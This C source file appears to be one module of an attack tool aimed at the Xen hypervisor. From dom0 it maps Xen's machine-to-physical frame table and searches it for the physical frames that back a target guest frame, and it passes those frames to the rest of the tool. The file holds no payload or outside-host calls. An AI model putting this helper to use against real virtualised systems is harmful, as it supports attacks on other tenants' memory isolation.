/* SPDX-License-Identifier: BSD-2-Clause */
/* Xen's table of machine frames, which any dom0 may map. */
#include <string.h>
#include <sys/mman.h>

#include "attack.h"

#define CHUNK_ENTRIES (M2P_CHUNK / sizeof(unsigned long))
#define M2P_CHUNK (2ul << 20) /* bytes that one frame list entry is */
#define MAX_FRAMES 16
#define MAX_CHUNKS 64

/* First machine frames of the table's 2 MiB parts. */
static unsigned int chunks(xen_pfn_t first[MAX_CHUNKS])
{
    xen_pfn_t *list = xen_buffer(MAX_CHUNKS * sizeof(*list));
    struct xen_machphys_mfn_list op = {.max_extents = MAX_CHUNKS};
    unsigned int i;

    set_xen_guest_handle_raw(op.extent_start, list);
    if ( memory_op(XENMEM_machphys_mfn_list, &op, sizeof(op)) )
        return 0;
    for ( i = 0; i < op.nr_extents; i++ )
        first[i] = list[i];
    return op.nr_extents;
}

static unsigned int search(const unsigned long *table, unsigned long base,
                           unsigned long entries, unsigned long gfn,
                           unsigned long *mfn, unsigned int max)
{
    unsigned int n = 0;
    unsigned long i;

    for ( i = 0; i < entries && n < max; i++ )
        if ( table[i] == gfn )
            mfn[n++] = base + i;
    return n;
}

/* Mapping the table takes a PVH dom0 seconds: it is done once. */
static struct part
{
    unsigned long *entries;
    int err[M2P_CHUNK / PAGE];
} parts[MAX_CHUNKS];
static unsigned int nr_parts;

static void map_table(void)
{
    xen_pfn_t first[MAX_CHUNKS], pfn[M2P_CHUNK / PAGE];
    unsigned int c, i;

    nr_parts = chunks(first);
    for ( c = 0; c < nr_parts; c++ )
    {
        /* Where there is no memory, Xen names the part before once more. */
        if ( c && first[c] == first[c - 1] )
            continue;
        for ( i = 0; i < M2P_CHUNK / PAGE; i++ )
            pfn[i] = first[c] + i;
        parts[c].entries = xenforeignmemory_map(
            fmem, DOMID_XEN, PROT_READ, M2P_CHUNK / PAGE, pfn, parts[c].err);
    }
}

static unsigned long found[MAX_FRAMES];
static unsigned int nr_found;

void find_frames(void)
{
    unsigned int c, i, entries = PAGE / sizeof(unsigned long);

    if ( !nr_parts )
        map_table();
    nr_found = 0;
    for ( c = 0; c < nr_parts; c++ )
        for ( i = 0; parts[c].entries && i < M2P_CHUNK / PAGE; i++ )
            if ( !parts[c].err[i] )
                nr_found +=
                    search(parts[c].entries + i * entries,
                           c * CHUNK_ENTRIES + i * entries, entries, LINES_GFN,
                           found + nr_found, MAX_FRAMES - nr_found);
}

unsigned int frames_of_lines(unsigned long *mfn, unsigned int max)
{
    unsigned int n = nr_found < max ? nr_found : max;

    memcpy(mfn, found, n * sizeof(*mfn));
    return n;
}
